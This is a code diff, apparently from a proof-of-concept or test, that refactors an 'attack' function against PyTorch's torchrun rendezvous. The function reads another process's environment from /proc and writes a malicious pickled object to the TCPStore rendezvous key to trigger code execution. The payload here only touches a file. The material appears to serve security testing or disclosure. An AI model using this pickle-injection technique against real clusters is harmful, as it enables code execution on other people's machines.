@@ -59,24 +59,14 @@ class Bomb:
         return Path.touch, (self.path,)
 
 
-def write_to_store(address: tuple[str, int], key: str, value: bytes) -> None:
-    """Write to a torch store as a stranger, in another process: this one never imports torch."""
-    code = "import sys; from torch.distributed import TCPStore\n"
-    code += "TCPStore(sys.argv[1], int(sys.argv[2]), is_master=False).set(*sys.argv[3:])"
-    command = [sys.executable, "-c", code, address[0], str(address[1]), key, value.decode()]
-    subprocess.run(command, check=True)
-
-
-def environment_of(pid: int) -> dict[str, str]:
-    words: list[bytes] = []
-    with suppress(OSError):  # the process has ended
-        words = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
-    return dict(word.decode().split("=", 1) for word in words if b"=" in word)
-
-
 def attack(rank: int, bomb: Path) -> None:
     """Do what makes torchrun's own rendezvous execute code: write a pickle to its store."""
-    environment = environment_of(rank)
-    address = (environment["MASTER_ADDR"], int(environment["MASTER_PORT"]))
+    words = Path(f"/proc/{rank}/environ").read_bytes().decode().split("\0")
+    environment = dict(word.split("=", 1) for word in words if "=" in word)
     key = f"torch.rendezvous.{environment['TORCHELASTIC_RUN_ID']}"
-    write_to_store(address, key, base64.b64encode(pickle.dumps(Bomb(bomb))))
+    value = base64.b64encode(pickle.dumps(Bomb(bomb))).decode()
+    # In another process, since this one never imports torch.
+    code = "import sys; from torch.distributed import TCPStore\n"
+    code += "TCPStore(sys.argv[1], int(sys.argv[2]), is_master=False).set(*sys.argv[3:])"
+    address = environment["MASTER_ADDR"], environment["MASTER_PORT"]
+    subprocess.run([sys.executable, "-c", code, *address, key, value], check=True)
